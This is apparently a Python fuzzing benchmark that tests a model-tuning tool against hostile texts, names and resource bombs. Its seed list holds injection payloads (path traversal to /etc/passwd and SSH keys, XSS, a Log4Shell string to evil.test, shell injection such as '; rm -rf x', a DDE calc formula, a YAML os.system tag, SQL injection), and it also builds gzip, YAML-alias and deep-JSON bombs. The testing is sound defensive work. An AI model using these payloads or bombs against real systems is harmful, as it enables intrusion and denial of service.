"""What names and texts from anybody do to files, terminals and pages; and what bombs do to memory.

    python benchmarks/hostile_input.py texts     # 300 texts as items, ids and answers of one run
    python benchmarks/hostile_input.py names     # the same as every kind of name
    python benchmarks/hostile_input.py bombs     # answers and files that unfold, have no end

``texts`` tunes a small task whose inputs, ids, targets and answers are the texts, by a provider
that says them too, and looks at every file, page and line that comes of it. Each command ends with
1 where something is not as it should be.
"""

from __future__ import annotations

import argparse
import asyncio
import csv
import gzip
import html.parser
import io
import json
import os
import random
import re
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator, Sequence
from contextlib import redirect_stderr, redirect_stdout, suppress
from pathlib import Path
from typing import Any

import yaml

from paid_work import Provider
from tierwise.cli import main as tierwise
from tierwise.errors import InputError, TierwiseError
from tierwise.llm.limits import Retry
from tierwise.llm.provider import ProviderModel

SEEDS = (
    "../../../etc/passwd",
    "/etc/passwd",
    "..",
    ".",
    "~/.ssh/id_rsa",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "CON",
    "aux.yaml",
    "NUL",
    "a/b",
    "a\\b",
    " ",
    "a\nb",
    "a\r\nb: c",
    "a\tb",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;http://evil.test\x07link\x1b]8;;\x07",
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "\x07bell\x08\x08",
    "\u202egnp.exe",
    "\u2066isolate\u2069",
    "\ufeffbom",
    "\u2028line\u2029paragraph",
    "\u200bzero width",
    "e\u0301 combining " + "\u0301" * 40,
    "👩‍👩‍👧‍👦 family",
    "𝕬𝖘𝖙𝖗𝖆𝖑",
    "العربية עברית",
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)",
    "javascript:alert(1)",
    "<!-- comment",
    "]]>",
    "&lt;b&gt;&amp;",
    "<svg/onload=alert(1)>",
    "<style>*{display:none}</style>",
    "{{ 7 * 7 }}",
    "{{ question }}",
    "{% for x in y %}",
    "{# hidden #}",
    "${jndi:ldap://evil.test}",
    "{0.__class__}",
    "%s%n%x",
    "$(touch /tmp/pwned)",
    "`touch /tmp/pwned`",
    "; rm -rf x",
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "a,b",
    'a"b',
    "a;b",
    "'",
    '"',
    "!!python/object/apply:os.system [ls]",
    "&anchor *alias",
    "- item",
    "key: value",
    "# comment",
    "| block",
    "> folded",
    "no",
    "null",
    "~",
    "true",
    "1e3",
    "12:30:00",
    "0x1F",
    "2026-11-30",
    "---",
    "...",
    "%YAML 1.1",
    "[red]markup[/red]",
    "[link=http://evil.test]x[/link]",
    "[/]",
    "[bold",
    "**bold** _it_ `code`",
    "[x](javascript:alert(1))",
    "' OR 1=1 --",
    '"; DROP TABLE samples; --',
    "__proto__",
    "constructor",
    "x" * 5_000,
    "🙂" * 1_000,
    "A: 7",
    "answer: 3",
)
FULL = 300


def hostile(n: int = FULL) -> list[str]:
    """``n`` texts: the seeds, then two of them joined."""
    rng, texts = random.Random(0), list(dict.fromkeys(SEEDS))
    while len(texts) < n:
        one, other = rng.sample(SEEDS, 2)
        texts.append(f"{one[:200]}{rng.choice(['', ' ', '/', chr(10)])}{other[:200]}")
    return texts[:n]


TASK = r"""name: hostile
version: 1
inputs: [question]
items: items.jsonl
answer: {extract: {regex: 'A: ([\s\S]*)', take: first}}
metric: exact_match
prompts: prompts.yaml
"""
PROMPTS = """- id: plain
  user: "{{ question }}"
- id: steps
  family: step_by_step
  user: "Step by step: {{ question }}"
"""
SPACE = """prompts: {families: [baseline, step_by_step]}
temperature: [0.8]
variants: [1]
modes: [direct]
strategies: {single: {}, self_consistency: {samples: {low: 2, high: 3}}}
difficulty: {signals: [none, length], buckets: [1, 2]}
"""
JOB = """task: .
space: space.yaml
tiers:
  small:
    model: openai/tiny
    api_base: http://127.0.0.1:PORT/v1
    takes_n: false
    modes: {direct: {max_tokens: 9000}}
    price: {prompt_usd_per_mtok: 1.0, completion_usd_per_mtok: 2.0}
trials: 8
"""


class Echo(Provider):
    """A provider that says what it was asked."""

    def said(self, text: str, seed: int) -> str:
        """The question, or half of the time another."""
        question = text.removeprefix("Step by step: ")
        return f"A: t {question}" if seed % 3 else f"A: no {question}"


def write(folder: Path, port: int, texts: Sequence[str]) -> None:
    """The task and its job."""
    for name, text in (("task", TASK), ("prompts", PROMPTS), ("space", SPACE), ("job", JOB)):
        (folder / f"{name}.yaml").write_text(text.replace("PORT", str(port)))
    rows = [
        {"id": f"{k}{text[:80]}", "inputs": {"question": text}, "target": f"t {text}"}
        for k, text in enumerate(texts)
    ]
    (folder / "items.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))


def command(*arguments: object) -> tuple[int, str, str]:
    """Exit code, and what was said on stdout and on stderr."""
    out, err, code = io.StringIO(), io.StringIO(), 0
    with redirect_stdout(out), redirect_stderr(err):
        try:
            tierwise([str(a) for a in arguments])
        except SystemExit as stop:
            code = int(str(stop.code or 0))
    return code, out.getvalue(), err.getvalue()


UNSAFE = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
)
"""What a terminal acts on: control characters but line ends and tabs, and those of direction."""


class Tags(html.parser.HTMLParser):
    """Counts elements and the names of attributes of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.kinds: set[tuple[str, ...]] = set()
        self.links: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.kinds |= {(tag,), *((tag, name) for name, _ in attrs)}
        self.links |= {v or "" for name, v in attrs if name in ("href", "src", "action")}


def outside(folder: Path) -> set[Path]:
    """Everything in a folder."""
    return set(folder.rglob("*"))


def check_texts(folder: Path, texts: Sequence[str]) -> list[str]:
    """Tune on ``texts`` in ``folder``, and what is wrong with what came of it."""
    faults: list[str] = []
    work, run = folder / "work", folder / "work" / "run"
    work.mkdir(parents=True)
    said: dict[str, str] = {}
    with Echo(latency_s=0.001).running() as provider:
        write(work, provider.port, texts)
        os.environ["OPENAI_API_BASE"] = f"http://127.0.0.1:{provider.port}/v1"
        before = outside(folder)

        def say(name: str, *arguments: object) -> str:
            code, out, err = command(*arguments)
            said[name] = out + err
            if code:
                faults.append(f"{name} ends with {code}: {said[name][-400:]}")
            return out

        say("check", "check", work / "task.yaml")
        say("tune", "tune", work / "job.yaml", "--out", run, "--yes")
        say("log", "tune", work / "job.yaml", "--out", run, "--yes", "--log-json")
        say("compare", "compare", run)
        table = say("compare csv", "compare", run, "--csv")
        shown = say("compare json", "compare", run, "--json")
        say("replay", "replay", run)
        say("stats", "pool", "stats", run)
        say("export", "pool", "export", run, work / "out.jsonl")
        say("import", "pool", "import", work / "other.sqlite", work / "out.jsonl")
        say(
            "proxy",
            "export",
            run / "policies" / "small.yaml",
            "--to",
            "litellm-proxy",
            "--out",
            work / "proxy",
        )
        for k in (0, 16, 22, 31, 42):
            policy = run / "policies" / "small.yaml"
            say(f"run {k}", "run", policy, "--input", texts[k % len(texts)])
    for name, text in said.items():
        if unsafe := UNSAFE.search(text):
            faults.append(
                f"{name} prints {unsafe[0]!r}: {text[max(0, unsafe.start() - 60) :][:120]!r}"
            )
    made = outside(folder) - before
    faults += [f"{path} is outside" for path in made if work not in path.parents]
    if faults:
        return faults
    list(csv.reader(io.StringIO(table)))
    json.loads(shown)
    for path in made:
        faults += read_back(path)
    rows = [json.loads(line) for line in (work / "out.jsonl").read_text().split("\n") if line]
    asked = {row["inputs"]["question"] for row in rows if "inputs" in row}
    faults += [f"{text[:60]!r} did not come back" for text in texts if text not in asked]
    page = Tags()
    page.feed((run / "report.html").read_text())
    plain = Tags()
    plain.feed(plain_report(folder / "plain", len(texts)))
    faults += [f"the page has {kind}" for kind in page.kinds - plain.kinds]
    faults += [f"the page links {link[:60]}" for link in page.links - plain.links]
    return faults


def plain_report(folder: Path, n: int) -> str:
    """The page of the same job on harmless texts."""
    folder.mkdir()
    with Echo(latency_s=0.001).running() as provider:
        write(folder, provider.port, [f"what is number {k}?" for k in range(n)])
        command("tune", folder / "job.yaml", "--out", folder / "run", "--yes", "--quiet")
    return (folder / "run" / "report.html").read_text()


def read_back(path: Path) -> Iterator[str]:
    """What is wrong with the form of a file."""
    try:
        if path.suffix == ".json":
            json.loads(path.read_text())
        elif path.suffix == ".jsonl":
            for line in path.read_text().split("\n"):
                json.loads(line or "{}")
        elif path.suffix in (".yaml", ".yml"):
            yaml.safe_load(path.read_text())
        elif path.suffix == ".csv":
            rows = list(csv.reader(io.StringIO(path.read_text(), newline="")))
            if len({len(row) for row in rows}) > 1:
                yield f"{path.name}: rows of several lengths"
            for row in rows:
                for cell in row:
                    with suppress(ValueError):
                        float(cell)
                        continue
                    if cell[:1] in tuple("=+-@\t\r") and len(cell) > 1:
                        yield f"{path.name}: a formula {cell[:40]!r}"
    except (ValueError, yaml.YAMLError, OSError) as error:
        yield f"{path.name}: {error}"


def names_of_kinds(folder: Path) -> dict[str, Callable[[str], Any]]:
    """Kinds of names, and what reads one: raises InputError, or gives what is derived from it."""
    from tierwise.llm.recorded import Recording
    from tierwise.runs.inputs import load_task
    from tierwise.schema import load_job
    from tierwise.schema.policy_file import PolicyFile

    def job(name: str, **more: object) -> object:
        path = folder / "job.yaml"
        tiers: dict[str, Any] = {name if more.get("tier") else "small": {"model": "embedded/small"}}
        if more.get("model"):
            tiers = {
                "small": {
                    "model": name,
                    "price": {"prompt_usd_per_mtok": 1.0, "completion_usd_per_mtok": 1.0},
                }
            }
        if more.get("mode"):
            tiers = {"small": {"model": "openai/x", "modes": {name: {"max_tokens": 3}}}}
        path.write_text(yaml.safe_dump({"task": "arithmetic", "tiers": tiers}))
        return load_job(path)

    def policy(change: Callable[[dict[str, Any], str], None]) -> Callable[[str], object]:
        def load(name: str) -> object:
            said = yaml.safe_load(POLICY)
            change(said, name)
            path = folder / "policy.yaml"
            path.write_text(yaml.safe_dump(said))
            return PolicyFile.load(path)

        return load

    def recording(field: str) -> Callable[[str], object]:
        def load(name: str) -> object:
            row: dict[str, Any] = {"item_id": "a", "model": "m", "prompt_id": "p", "mode": "direct"}
            row |= {"temperature": 0.0, "sample": 0, "text": "x", field: name}
            item = {"id": "a", "inputs": {"q": "x"}, "target": "y"}
            path = folder / "r.jsonl"
            path.write_text(f"{json.dumps(item)}\n{json.dumps(row)}\n")
            return Recording.load(path, name if field == "model" else "m")

        return load

    def task(name: str) -> object:
        path = folder / "task.yaml"
        (folder / "prompts.yaml").write_text(PROMPTS.replace("question", "q"))
        path.write_text(
            yaml.safe_dump(
                {"name": name, "inputs": ["q"], "items": "items.jsonl", "prompts": "prompts.yaml"}
            )
        )
        (folder / "items.jsonl").write_text('{"id": "a", "inputs": {"q": "x"}, "target": "y"}\n')
        return load_task(str(path))

    return {
        "tier": lambda name: job(name, tier=True),
        "model": lambda name: job(name, model=True),
        "mode": lambda name: job(name, mode=True),
        "policy": policy(lambda said, name: said.update(name=name)),
        "policy's tier": policy(lambda said, name: said.update(tier=name)),
        "policy's model": policy(lambda said, name: said.update(model=name)),
        "policy's prompt": policy(_rename_prompt),
        "policy's mode": policy(_rename_mode),
        "recorded prompt": recording("prompt_id"),
        "recorded mode": recording("mode"),
        "recorded model": recording("model"),
        "task": task,
    }


def _rename_prompt(said: dict[str, Any], name: str) -> None:
    said["prompts"] = {name: said["prompts"]["plain"]}
    said["buckets"][0]["variants"][0]["prompt"] = name


def _rename_mode(said: dict[str, Any], name: str) -> None:
    said["modes"] = {name: said["modes"]["direct"]}
    said["buckets"][0]["variants"][0]["mode"] = name


POLICY = """schema: tierwise/policy/v1
name: tiny-small
tier: small
model: openai/tiny
price: {prompt_usd_per_mtok: 1.0, completion_usd_per_mtok: 2.0}
task: {name: tiny, version: 1, metric: exact_match, items_sha256: "0"}
inputs: [question]
prompts:
  plain: {messages: [{role: user, content: "{{ question }}"}]}
modes: {direct: {max_tokens: 32}}
buckets:
  - variants: [{prompt: plain, mode: direct, temperature: 0.8}]
    strategy: {kind: self_consistency, samples: 3}
answer: {extract: {regex: 'A: (.*)'}, return: text}
limits: {max_samples: 3}
"""
SAFE_NAME = re.compile(r"\w[\w.+~:/@\-]*")


def check_names(folder: Path, texts: Sequence[str]) -> tuple[list[str], int]:
    """What is wrong with names that are read, and how many were refused."""
    faults, refused = list[str](), 0
    for kind, read in names_of_kinds(folder).items():
        try:
            read("plain-name_1.0")
        except InputError as error:
            faults.append(f"{kind}: a plain name is refused: {error}")
        for text in texts:
            try:
                read(text)
            except InputError as error:
                refused += 1
                if UNSAFE.search(str(error)) and len(str(error)) > 10_000:
                    faults.append(f"{kind} {text[:40]!r}: the message is of {len(str(error))}")
            except Exception as error:  # noqa: BLE001 - a traceback is what is looked for
                faults.append(f"{kind} {text[:40]!r}: {type(error).__name__}: {error}")
            else:
                if not SAFE_NAME.fullmatch(text) or ".." in text.split("/"):
                    faults.append(f"{kind} {text[:40]!r} is taken for a name")
    return faults, refused


def texts_command(args: argparse.Namespace) -> bool:
    """All texts in one run."""
    with tempfile.TemporaryDirectory() as scratch:
        faults = check_texts(Path(scratch), hostile(args.n))
    print(f"{args.n} texts as inputs, ids, targets and answers: {len(faults)} faults")
    print("\n".join(faults[:40]))
    return not faults


def names_command(args: argparse.Namespace) -> bool:
    """All texts as names."""
    with tempfile.TemporaryDirectory() as scratch:
        faults, refused = check_names(Path(scratch), hostile(args.n))
    print(f"{args.n} texts as 12 kinds of names: {refused} refused, {len(faults)} faults")
    print("\n".join(faults[:40]))
    return not faults


# Bombs: what unfolds, and what has no end or no bottom


def _gzip_of(n: int, byte: bytes = b" ") -> bytes:
    """A gzip of ``n`` times a byte, a thousandth of it in size."""
    packed, block = io.BytesIO(), byte * 2**20
    with gzip.GzipFile(fileobj=packed, mode="wb", compresslevel=9) as file:
        for _ in range(n // 2**20):
            file.write(block)
    return packed.getvalue()


_CHOICE = b'{"index":0,"finish_reason":"stop","message":{"role":"assistant","content":"A: 1"}}'
_USAGE = b'"usage":{"prompt_tokens":3,"completion_tokens":3}}'
ANSWERS: dict[str, Callable[[], tuple[bytes, bytes, bool]]] = {
    # name -> (headers, body, whether the body is sent again and again)
    "gzip of 2 GB": lambda: (b"content-encoding: gzip\r\n", _gzip_of(2**31), False),
    "endless body": lambda: (b"", b" " * 2**16, True),
    "10^6 choices": lambda: (
        b"",
        b'{"choices":[' + b",".join([_CHOICE] * 10**6) + b"]," + _USAGE,
        False,
    ),
    "deep JSON": lambda: (b"", b'{"choices":' + b"[" * 10**7, False),
    "10^7 small objects": lambda: (b"", b'{"choices":[' + b"{}," * 10**7 + b"{}]}", False),
    "1.3M objects": lambda: (b"", b'{"choices":[' + b'{"a":1},' * 1_300_000 + b"{}]}", False),
    "390,000 objects": lambda: (b"", b'{"choices":[' + b'{"a":1},' * 390_000 + b"{}]}", False),
    "5M numbers": lambda: (b"", b'{"choices":[' + b"1.5," * 5_000_000 + b"1]}", False),
    "200,000 choices": lambda: (
        b"",
        b'{"choices":[' + b",".join([_CHOICE] * 190_000) + b"]," + _USAGE,
        False,
    ),
    "numbers of a million digits": lambda: (
        b"",
        b'{"choices":[' + _CHOICE + b'],"usage":{"prompt_tokens":' + b"9" * 10**6 + b"}}",
        False,
    ),
    "endless SSE stream": lambda: (
        b"content-type: text/event-stream\r\n",
        b'data: {"choices":[{"index":0,"delta":{"content":"A: 1 "}}]}\n\n' * 1000,
        True,
    ),
    "SSE stream of 100 MB": lambda: (
        b"content-type: text/event-stream\r\n",
        b'data: {"choices":[{"index":0,"delta":{"content":"A: 1 "}}]}\n\n' * 1_600_000,
        False,
    ),
    "a text of 100 MB": lambda: (
        b"",
        b'{"choices":[' + _CHOICE.replace(b"A: 1", b"x" * 10**8) + b"]," + _USAGE,
        False,
    ),
}
FILES: dict[str, tuple[str, Callable[[Path], object]]] = {
    "policy of 2 GB": ("policy.yaml", lambda path: os.truncate(path, 2**31)),
    "YAML of aliases": (
        "policy.yaml",
        lambda path: path.write_text(
            "a0: &a0 [x, x]\n"
            + "".join(f"a{k}: &a{k} [*a{k - 1}, *a{k - 1}]\n" for k in range(1, 60))
        ),
    ),
    "deep YAML": ("policy.yaml", lambda path: path.write_text("[" * 10**6)),
    "3 MB of YAML lists": ("policy.yaml", lambda path: path.write_text("[" + "[]," * 10**6 + "]")),
    "recording with a line of 2 GB": (
        "r.jsonl.gz",
        lambda path: path.write_bytes(_gzip_of(2**31, b"x")),
    ),
    "recording with a deep line": ("r.jsonl", lambda path: path.write_text("[" * 10**7)),
    "YAML with a number of a million digits": (
        "policy.yaml",
        lambda path: path.write_text(POLICY.replace("version: 1", f"version: {'9' * 10**6}")),
    ),
    "items with a text of 100 MB, JSONL": (
        "items.jsonl",
        lambda path: path.write_text(json.dumps({"id": "a", "q": "x" * 10**8})),
    ),
    "items with a text of 100 MB, JSON": (
        "items.json",
        lambda path: path.write_text(json.dumps([{"id": "a", "q": "x" * 10**8}])),
    ),
    "items with a text of 100 MB, CSV": (
        "items.csv",
        lambda path: path.write_text("id,q,target\na," + "x" * 10**8 + ",1\n"),
    ),
    "items of 10^7 objects, JSON": (
        "items.json",
        lambda path: path.write_text("[" + "{}," * 10**7 + "{}]"),
    ),
    "items of 2 GB, gzipped": (
        "items.jsonl.gz",
        lambda path: path.write_bytes(_gzip_of(2**31, b"x")),
    ),
    "recording with a line of 7 MB of lists": (
        "r.jsonl",
        lambda path: path.write_text('{"id": [' + "[]," * 2_300_000 + "[]]}"),
    ),
}


class Bomb(Provider):
    """Answers the second call, and those after it, with a bomb."""

    head, body, again = b"", b"", False

    def answer(self, body: dict[str, Any], connection: Any) -> None:
        """See ``Provider``."""
        if len(self.served) < 1:
            super().answer(body, connection)
            return
        transport = connection._transport
        length = b"" if self.again else b"content-length: %d\r\n" % len(self.body)
        transport.write(b"HTTP/1.1 200 OK\r\n" + self.head + length + b"\r\n" + self.body)

        def more() -> None:
            if not transport.is_closing():
                if transport.get_write_buffer_size() < 2**22:
                    transport.write(self.body)
                asyncio.get_running_loop().call_later(0.001, more)

        if self.again:
            more()


def rest_mb() -> float:
    """The most memory of this process so far, in MB; ``ru_maxrss`` begins with the parent's."""
    status = Path("/proc/self/status").read_text()
    return int(re.findall(r"VmHWM:\s*(\d+) kB", status)[0]) / 1024


def take(kind: str, what: str, port_or_path: str) -> None:
    """In a process of its own: meet a bomb, and print how much memory that took."""
    said = "read"
    if kind == "answer":
        from paid_work import model_of, needs, tier_at
        from tierwise.llm import Call

        tier = tier_at(int(port_or_path))
        model = model_of(tier) if what == "direct" else ProviderModel(tier, retry=Retry(attempts=2))
        model.remark = lambda text: None
        request = needs(1, model.address)[0].request
        list(model.complete([[Call(request, 0, 1, 1)]]))
        before = rest_mb()
        try:
            [[[result]]] = model.complete([[Call(request, 1, 1, 2)]])
            said = getattr(result, "error_class", "answered")
        except TierwiseError as error:
            said = str(error)[:60]
        model.close()
    else:
        from tierwise.llm.recorded import Recording
        from tierwise.schema.policy_file import PolicyFile
        from tierwise.tasks.data_files import load_items

        with suppress(TierwiseError):
            PolicyFile.loads(POLICY)
        before = rest_mb()
        try:
            if port_or_path.endswith("policy.yaml"):
                PolicyFile.load(port_or_path)
            elif "items." in port_or_path:
                load_items(Path(port_or_path), ("q",))
            else:
                Recording.load(port_or_path, "m")
        except TierwiseError as error:
            said = str(error).partition(": ")[2][:60]
    print(json.dumps({"mb": rest_mb() - before, "said": said}))


def bombs_command(args: argparse.Namespace) -> bool:
    """All bombs, each met by a process of its own."""
    good = True
    with tempfile.TemporaryDirectory() as scratch:
        for name, make in ANSWERS.items():
            if args.only not in name:
                continue
            for sender in ("direct", "litellm"):
                provider = Bomb(latency_s=0.001)
                provider.head, provider.body, provider.again = make()
                with provider.running():
                    good &= _met(name, sender, "answer", sender, str(provider.port))
        for name, (file, write_bomb) in FILES.items():
            if args.only not in name:
                continue
            path = Path(scratch) / file
            path.write_bytes(b"")
            write_bomb(path)
            good &= _met(name, "file", "file", "", str(path))
    return good


def _met(name: str, how: str, *arguments: str) -> bool:
    command = [sys.executable, __file__, "take", *arguments]
    try:
        done = subprocess.run(command, capture_output=True, text=True, timeout=200, check=False)
    except subprocess.TimeoutExpired:
        print(f"{name} ({how}): no end within 200 s", flush=True)
        return False
    try:
        got = json.loads(done.stdout.splitlines()[-1])
    except (IndexError, ValueError):
        print(f"{name} ({how}): ended with {done.returncode}: {done.stderr[-500:]}", flush=True)
        return False
    print(f"{name} ({how}): {got['mb']:.0f} MB more; {got['said']}", flush=True)
    return bool(got["mb"] <= 200)


COMMANDS = {"texts": texts_command, "names": names_command, "bombs": bombs_command}


def main() -> None:
    if sys.argv[1:2] == ["take"]:
        take(*sys.argv[2:])
        return
    options = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    options.add_argument("command", choices=COMMANDS)
    options.add_argument("-n", type=int, default=FULL)
    options.add_argument("--only", default="", help="Bombs whose names have this in them.")
    args = options.parse_args()
    sys.exit(0 if COMMANDS[args.command](args) else 1)


if __name__ == "__main__":
    main()
